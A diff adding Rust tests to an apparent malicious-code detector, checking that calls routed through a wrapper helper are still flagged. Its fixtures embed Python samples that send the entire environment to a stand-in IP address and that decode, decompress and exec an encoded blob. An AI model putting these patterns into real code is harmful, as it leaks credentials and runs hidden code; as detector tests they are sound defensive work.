@@ -351,3 +351,50 @@ fn function_name_under_another_name() {
     let a = run(&writes);
     assert!(!rules(&a).contains(&"MB216"), "{:?}", a.findings);
 }
+
+const HELPER: &str = "def _call(fn, *args, **kwargs):\n    return fn(*args, **kwargs)\n";
+
+/// Through the helper, the environment read is the same: one variable
+/// read (the webhook's address, a benign notifier's) is not the whole
+/// environment, and the whole environment sent still is.
+#[test]
+fn environment_through_the_helper() {
+    let notifier = format!(
+        "import os\nimport requests\n{HELPER}hook = _call(os.environ.get, 'SLACK_HOOK')\n\
+         _call(requests.post, hook, json={{'text': 'build passed'}}, timeout=10)\n"
+    );
+    let a = run(&notifier);
+    assert!(a.verdict < Verdict::High, "{:?}", a.findings);
+    let plain = "import json\nimport os\nimport urllib.request\n\
+                 payload = json.dumps(os.environ.copy()).encode()\n\
+                 urllib.request.urlopen('http://198.51.100.4/e', data=payload)\n";
+    let wrapped = format!(
+        "import json\nimport os\nimport urllib.request\n{HELPER}\
+         payload = _call(json.dumps, _call(os.environ.copy)).encode()\n\
+         _call(urllib.request.urlopen, 'http://198.51.100.4/e', data=payload)\n"
+    );
+    assert_same(plain, &wrapped);
+}
+
+/// Code decoded through the helper and run is obfuscated code run.
+#[test]
+fn decoder_through_the_helper() {
+    let blob = "eJzLSM3JyVcozy/KSQEAGgQEXQ==";
+    let plain = format!(
+        "import base64\nimport zlib\nsrc = zlib.decompress(base64.b64decode('{blob}'))\n\
+         exec(compile(src, '<x>', 'exec'))\n"
+    );
+    let wrapped = format!(
+        "import base64\nimport zlib\n{HELPER}\
+         src = _call(zlib.decompress, _call(base64.b64decode, '{blob}'))\n\
+         _call(exec, _call(compile, src, '<x>', 'exec'))\n"
+    );
+    assert_same(&plain, &wrapped);
+    // Control: data decoded through the helper and printed, not run.
+    let shown = wrapped.replace(
+        "_call(exec, _call(compile, src, '<x>', 'exec'))",
+        "print(src)",
+    );
+    let a = run(&shown);
+    assert!(a.verdict < Verdict::High, "{:?}", a.findings);
+}
